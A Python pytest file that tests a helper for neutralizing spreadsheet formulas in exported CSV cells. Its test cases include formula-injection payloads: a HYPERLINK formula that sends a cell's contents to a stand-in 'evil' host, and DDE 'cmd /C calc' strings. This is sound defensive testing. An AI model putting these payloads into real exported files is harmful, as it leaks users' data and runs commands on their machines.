"""Formula neutralization for CSV files people open in spreadsheets (shared/spreadsheet.py)."""

from __future__ import annotations

import csv
import io

import pytest

from shared.spreadsheet import neutralize, neutralize_row


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("-", "'-"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (-12, -12),
        (None, None),
    ],
)
def test_neutralize(value, expected):
    assert neutralize(value) == expected


def test_neutralized_row_round_trips_through_csv_as_text():
    buf = io.StringIO()
    csv.writer(buf).writerow(neutralize_row(["=1+1", 3, "ok", "@x"]))
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'=1+1", "3", "ok", "'@x"]
